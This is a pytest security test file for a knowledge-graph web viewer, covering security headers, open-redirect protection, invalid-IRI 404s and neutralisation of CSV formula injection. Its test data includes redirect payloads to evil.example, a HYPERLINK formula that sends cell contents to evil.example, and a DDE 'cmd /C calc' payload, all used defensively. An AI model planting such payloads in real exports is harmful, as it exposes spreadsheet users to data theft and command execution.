"""The viewer's edge against other sites (issue 12): security headers on every response, self-links that cannot
point off-site, 404 for paths that stand for no IRI, and CSV cells that a spreadsheet never runs as formulas.

The headers, links and 404s are checked on the live server (`kg serve`, as the README starts it); the CSV rule as a
unit and on curated data with hostile names, through /report/links.csv, /report/matrix.csv and `kg report`.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import pyoxigraph as ox
import pytest
import requests
from click.testing import CliRunner
from flask import Flask

from kg.analysis.output import as_csv
from kg.cli import main
from kg.csvsafe import neutralise, neutralise_row
from kg.curation import CurationStore, agent_iri
from kg.linkeddata import NotAnIri, iri_for_path
from kg.namespaces import ID, SKK
from kg.report import report
from kg.report.exports import links_csv, matrix_csv
from tests.editing import copy_store
from webapp.paths import site_path
from webapp.security import content_security_policy

from .conftest import LiveServer, start_server, stop_server

HTML = {"Accept": "text/html"}

# ---------------------------------------------------------------- security headers


def assert_secured(response: requests.Response) -> None:
    headers = response.headers
    policy = headers.get("Content-Security-Policy", "")
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
    assert directives["default-src"] == "'self'"
    assert directives["script-src"] == "'self'"  # no inline script, no eval
    assert directives["frame-ancestors"] == "'none'"
    assert directives["object-src"] == "'none'"
    assert "http" not in policy and "*" not in policy  # no remote source of any kind
    assert "unsafe-eval" not in policy
    assert "unsafe-inline" not in policy.replace("style-src-attr 'unsafe-inline'", "")
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "same-origin"


@pytest.mark.parametrize(
    ("path", "headers", "status"),
    [
        ("", HTML, 200),  # the home page
        ("sparql", HTML, 200),  # the editor
        ("sparql?query=ASK%20%7B%7D", {"Accept": "application/sparql-results+json"}, 200),  # an answer
        ("sparql", {"Accept": "text/turtle"}, 200),  # the service description
        ("sparql?query=SELEKT", {}, 400),  # the endpoint's own error
        ("static/site.css", {}, 200),
        ("static/vendor/yasgui/yasgui.min.js", {}, 200),
        ("id/initiative/finns-inte", HTML, 404),  # the error page
        ("finns-inte", {"Accept": "text/plain"}, 404),
        ("id/initiative/maltider-och-moten.ttl", {}, 200),
        ("report/links.csv", {}, 200),
        ("network/data.json", {}, 200),
    ],
)
def test_every_response_carries_the_security_headers(
    live_server: LiveServer, path: str, headers: dict[str, str], status: int
) -> None:
    response = requests.get(live_server.url + path, headers=headers, timeout=30)
    assert response.status_code == status
    assert_secured(response)


def test_the_vendored_stylesheets_are_allowed_on_their_own_pages_only() -> None:
    editor, network, home = (content_security_policy(e) for e in ("sparql.sparql", "network.graph_page", "pages.home"))
    assert editor.count("'sha256-") == 1 and network.count("'sha256-") == 8 and "'sha256-" not in home


# ---------------------------------------------------------------- self-links stay on this site


class Links(HTMLParser):
    """Every <a href> of a page, with its class."""

    def __init__(self) -> None:
        super().__init__()
        self.links: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag == "a" and found.get("href") is not None:
            self.links.append((found.get("class") or "", found["href"] or ""))


def links_of(html: str) -> list[tuple[str, str]]:
    parser = Links()
    parser.feed(html)
    return parser.links


@pytest.mark.parametrize(
    "path",
    ["%5Cevil.example", "%5C%5Cevil.example", "%2F%2Fevil.example", "%09/evil.example", "%5Cevil.example/x?a=b"],
)
def test_the_language_switch_and_login_link_stay_on_this_site(live_server: LiveServer, path: str) -> None:
    response = requests.get(live_server.url + path, headers=HTML, timeout=30)
    assert response.status_code == 404
    links = dict(links_of(response.text))
    own = urlsplit(live_server.url).netloc
    for kind in ("lang-switch", "login-link"):
        href = links[kind]
        assert href.startswith("/") and not href.startswith(("//", "/\\")), href
        assert "\\" not in href and "\t" not in href
        assert urlsplit(urljoin(live_server.url, href)).netloc == own, href  # what a browser opens
    # the switch leads to the same (missing) page in English
    switched = requests.get(urljoin(live_server.url, links["lang-switch"]), headers=HTML, timeout=30)
    assert switched.status_code == 404 and '<html lang="en">' in switched.text


def test_the_language_switch_keeps_the_page_and_its_query(live_server: LiveServer) -> None:
    response = requests.get(live_server.url + "initiatives?kind=" + SKK.replace("#", "%23") + "Pilot", timeout=30)
    href = dict(links_of(response.text))["lang-switch"]
    assert href.startswith("/initiatives?") and "lang=en" in href and "Pilot" in href


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("/", "/"),
        ("/sdg/3.4", "/sdg/3.4"),
        ("/sdg/3#t3.4", "/sdg/3#t3.4"),
        ("/initiatives?kind=a&page=2", "/initiatives?kind=a&page=2"),
        ("/\\evil.example", "/%5Cevil.example"),
        ("//evil.example", "/%2Fevil.example"),
        ("/\t/evil.example", "/%09/evil.example"),
        ("/a b?q=x y#f g", "/a%20b?q=x%20y#f%20g"),
        ("/id/%C3%A5", "/id/%C3%A5"),  # existing escapes stay
        ("/å", "/%C3%A5"),
        ("http://evil.example/", "/"),
        ("\\\\evil.example", "/"),
        ("evil.example", "/"),
        ("", "/"),
        (None, "/"),
    ],
)
def test_site_path(target: str | None, expected: str) -> None:
    assert site_path(target) == expected


def test_the_editing_forms_go_back_only_to_this_site(edit_app: Flask) -> None:
    """`next=` after a change (webapp.curate.common.back) and after logging in (webapp.auth.safe_next)."""
    from webapp.curate.common import back

    for target, expected in [
        ("/sdg/3#t3.4", "/sdg/3#t3.4"),
        ("//evil.example", "/sdg/3"),
        ("/\\evil.example", "/sdg/3"),
        ("https://evil.example/", "/sdg/3"),
    ]:
        with edit_app.test_request_context("/edit", method="POST", data={"next": target}):
            assert back("/sdg/3") == expected, target
    with edit_app.test_request_context("/edit"):
        assert back("//evil.example") == "/%2Fevil.example"  # even a default that came out wrong
    client = edit_app.test_client()
    for target in ("//evil.example", "/\\evil.example", "https://evil.example/", "/\t/evil.example"):
        html = client.get("/login", query_string={"next": target}).get_data(as_text=True)
        assert 'name="next"' not in html, target  # refused: the login returns to the home page
    html = client.get("/login", query_string={"next": "/sdg/3"}).get_data(as_text=True)
    assert '<input type="hidden" name="next" value="/sdg/3">' in html


# ---------------------------------------------------------------- paths that stand for no IRI


@pytest.mark.parametrize(
    "path", ["id/%3C", "id/a%20b", "sdg/%22", "graph/%3C", "id/%7B", "id/a%5Cb", "id/%25zz", "id/a%3Cb.ttl"]
)
def test_a_path_that_is_no_iri_is_404(live_server: LiveServer, path: str) -> None:
    page = requests.get(live_server.url + path, headers=HTML, timeout=30)
    assert page.status_code == 404
    assert "Sidan finns inte" in page.text  # the normal not-found page, in Swedish ...
    assert (
        "lang-switch" in page.text
        and "Not found" in requests.get(live_server.url + path + "?lang=en", headers=HTML, timeout=30).text
    )  # ... and in English
    rdf = requests.get(live_server.url + path, headers={"Accept": "text/turtle"}, timeout=30)
    assert rdf.status_code == 404


def test_iri_for_path_refuses_what_no_iri_holds() -> None:
    assert iri_for_path("/sdg/3.4") == "http://metadata.un.org/sdg/3.4"
    assert iri_for_path("id/initiative/måltider") == ID + "initiative/måltider"  # IRIs may hold å
    for path in ("id/<", "id/a b", 'sdg/"', "graph/<", "id/a\\b", "id/%zz", "id/{x}"):
        with pytest.raises(NotAnIri):
            iri_for_path(path)


def test_the_network_refuses_a_node_that_is_no_iri(live_server: LiveServer) -> None:
    response = requests.get(live_server.url + "network/data.json", params={"node": "/id/a b"}, timeout=30)
    assert response.status_code == 400


# ---------------------------------------------------------------- CSV cells that are never formulas


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("+46 70 123 45 67", "'+46 70 123 45 67"),
        ("Måltider och möten", "Måltider och möten"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
        ("-12", "-12"),  # a text that is only a number stays a number
        ("-1,5", "-1,5"),
        ("+3.25", "+3.25"),
        (-12, -12),
        (-1.5, -1.5),
        (Decimal("-102500"), Decimal("-102500")),
        (0, 0),
        (None, None),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert neutralise(value) == expected
    assert type(neutralise(value)) is type(expected)


def test_neutralise_row() -> None:
    assert neutralise_row(["=x", -3, "ok", None]) == ["'=x", -3, "ok", None]


EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_RATIONALE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile(store_path: Path, tmp_path: Path) -> Path:
    """A store with an initiative named like a formula, linked to 3.4 with a rationale that starts like one."""
    path = copy_store(store_path, tmp_path)
    anna = agent_iri("anna")
    cur = CurationStore(path)
    try:
        change = cur.add_initiative(
            EVIL_NAME,
            EVIL_NAME,
            SKK + "Pilot",
            None,
            None,
            None,
            [],
            ID + "focus-area/nara-vard",
            [],
            anna,
            "Test av CSV-export.",
        )
        cur.add_link(change.iri, "3.4", "primary", EVIL_RATIONALE, anna, status="proposed")
    finally:
        cur.close()
    return path


def parsed(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=";"))


def assert_neutralised_links(text: str) -> None:
    rows = [r for r in parsed(text) if EVIL_NAME in r["initiativ"]]
    assert len(rows) == 1
    assert rows[0]["initiativ"] == "'" + EVIL_NAME and rows[0]["motivering"] == "'" + EVIL_RATIONALE
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in parsed(text) for cell in row.values())


def assert_neutralised_matrix(text: str) -> None:
    rows = parsed(text)
    evil = [r for r in rows if EVIL_NAME in r["initiativ"]]
    assert len(evil) == 1 and evil[0]["initiativ"] == "'" + EVIL_NAME
    assert evil[0]["kopplingar"] == "1" and evil[0]["föreslagna"] == "1"  # the numbers stay numbers
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


def test_hostile_names_are_neutralised_in_the_report_csv(hostile: Path) -> None:
    store = ox.Store.read_only(str(hostile))
    made = report(store, "sv")
    assert_neutralised_links(links_csv(made))
    assert_neutralised_matrix(matrix_csv(store, made))


def test_hostile_names_are_neutralised_in_the_downloads_and_kg_report(hostile: Path, tmp_path: Path) -> None:
    folder = tmp_path / "server"
    folder.mkdir()
    server = start_server(hostile, folder, "--workers", "1", "--read-only")  # `kg serve`, as the README starts it
    try:
        links = requests.get(server.url + "report/links.csv?lang=sv", timeout=60)
        matrix = requests.get(server.url + "report/matrix.csv?focus-area=nara-vard&lang=sv", timeout=60)
    finally:
        stop_server(server)
    assert_neutralised_links(links.content.decode("utf-8"))
    assert_neutralised_matrix(matrix.content.decode("utf-8"))
    for fmt, check in (("csv-links", assert_neutralised_links), ("csv-matrix", assert_neutralised_matrix)):
        out = tmp_path / f"{fmt}.csv"
        result = CliRunner().invoke(main, ["--store", str(hostile), "report", "--format", fmt, "-o", str(out)])
        assert result.exit_code == 0, result.output
        check(out.read_text(encoding="utf-8"))


def test_hostile_names_are_neutralised_in_the_analysis_csv(hostile: Path) -> None:
    from kg.analysis import compute

    store = ox.Store.read_only(str(hostile))
    rows = list(csv.DictReader(io.StringIO(as_csv(compute(store), "all", "sv", False))))
    names = [r["name"] for r in rows if EVIL_NAME in r["name"]]
    assert names and all(name == "'" + EVIL_NAME for name in names)
